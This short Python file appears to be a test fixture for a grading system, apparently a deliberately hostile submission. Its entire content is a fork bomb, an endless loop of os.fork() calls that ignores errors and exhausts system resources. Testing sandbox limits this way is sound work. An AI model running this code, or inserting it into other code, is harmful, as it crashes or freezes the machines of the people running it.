# Processes that start processes.
# marks: mean_of_parts_test 0, weights_test 1.5
# ends: never
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
